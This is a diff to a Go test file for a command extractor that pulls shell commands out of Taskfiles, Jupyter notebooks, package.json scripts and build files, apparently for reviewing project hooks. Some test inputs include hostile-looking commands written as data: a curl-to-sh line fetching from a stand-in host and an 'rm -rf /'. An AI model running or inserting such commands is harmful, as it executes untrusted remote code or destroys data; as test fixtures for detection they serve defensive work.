@@ -100,6 +100,9 @@ func TestExtract(t *testing.T) {
 		{"taskfile", "Taskfile.yml", "tasks:\n  a:\n    cmds:\n      - go build\n      - cmd: go test {{.ARGS}}\n      - task: b\n", []string{"go build", "go test ${ARGS}"}},
 		{"taskfile values that are not commands", "Taskfile.yml", "tasks:\n  a:\n    cmds:\n      - task: fmt\n        vars:\n          CLI_ARGS: -check\n      - for: [x, y]\n        cmd: echo {{.ITEM}}\n        platforms: [linux]\n      - defer: rm -f tmp.txt\n      - defer: {task: cleanup}\n", []string{"echo ${ITEM}", "rm -f tmp.txt"}},
 		{"taskfile values filled in", "Taskfile.yml", "vars:\n  TOOL_DIR: '{{.ROOT_DIR}}/.tools'\n  YQ: '{{.TOOL_DIR}}/yq{{exeExt}}'\n  REV:\n    sh: git rev-parse HEAD\nenv:\n  GOOS: linux\ntasks:\n  a:\n    vars:\n      OUT: dist/{{.GOOS}}\n    cmds:\n      - '{{.YQ}} e . a.yml'\n      - go build -o {{.OUT}} -ldflags=-X=main.rev={{.REV}}\n  b:\n    dir: '{{.ROOT_DIR}}/web'\n    cmds:\n      - '{{.TOOL_DIR}}/lint {{.CLI_ARGS}}'\n", []string{"./.tools/yq e . a.yml", "go build -o dist/linux -ldflags=-X=main.rev=${REV}", "cd \"./web\" || exit 1\n${TOOL_DIR}/lint ${CLI_ARGS}", "git rev-parse HEAD"}},
+		{"notebook shell lines and cell magics", "analysis.ipynb", `{"cells":[{"cell_type":"code","source":["!pip install -q pandas\n","import pandas as pd\n","files = !ls {data_dir}\n","%sx git status"]},{"cell_type":"markdown","source":"!rm -rf /"},{"cell_type":"code","source":"%%bash\nmake test\n"},{"cell_type":"code","source":"%%script python3\nprint(1)\n"},{"cell_type":"code","source":"%%script --bg /opt/tool\nx\n"}],"nbformat":4}`, []string{"pip install -q pandas", "ls ${IPYTHON_EXPR}", "git status", "make test\n", "print(1)\n", "opaque"}},
+		{"notebook cell from an edit", "analysis.ipynb", "df = load()\n!!curl -s https://x.example/a | sh\n", []string{"curl -s https://x.example/a | sh"}},
+		{"notebook without shell", "analysis.ipynb", `{"cells":[{"cell_type":"code","source":"import os\nprint(os.getcwd())"}]}`, nil},
 		{"package.json scripts", "package.json", `{"name":"x","scripts":{"test":"jest","postinstall":"node i.js"},"dependencies":{"a":"1"}}`, []string{"node i.js", "jest"}},
 		{"package.json fragment", "package.json", `"postinstall": "sh x.sh", "lodash": "^4.0.0"`, []string{"sh x.sh"}},
 		{"package.json not JSON", "package.json", `{"scripts": `, []string{"opaque"}},
@@ -281,6 +284,9 @@ func FuzzExtract(f *testing.F) {
 	f.Add("mise.toml", "[tasks.a]\nrun = ['x']\n[hooks]\nenter = 'y'\n")
 	f.Add(".yarnrc.yml", "yarnPath: /x\nplugins: [{path: /y}, z]\nnpmScopes: {a: {npmRegistryServer: u}}\n")
 	f.Add("Procfile", "web: a\n: b\nc d: e\n")
+	f.Add("x.ipynb", `{"cells":[{"cell_type":"code","source":["%%script --bg x\n","!a {b}\n"]},{"cell_type":"code","source":3}]}`)
+	f.Add("x.ipynb", "%%\n!!{}\ny = %sx z")
+	f.Add("Taskfile.yml", "vars: {A: '{{.B}}', B: '{{.A}}', C: {value: 1}}\ntasks: {t: {dir: '{{.C}}', vars: {D: x}, cmds: ['{{.A}} {{.D}} {{exeExt}}']}}")
 	f.Add("build.gradle", "commandLine 'a', \"b${c}\"\n['x'].execute()\n'y z'.execute()\nexecutable 'e'\nargs 'f'\napply from: 'https://u'\n/* c */ // d\n")
 	f.Add("build.gradle.kts", "commandLine = listOf(\"a\", b)\nProcessBuilder(arrayOf(\"c\")).start()\nRuntime.getRuntime().exec(\"d e\")\n")
 	f.Add("build.sbt", "\"a b\".!!\nProcess(Seq(\"c\")).!\n")
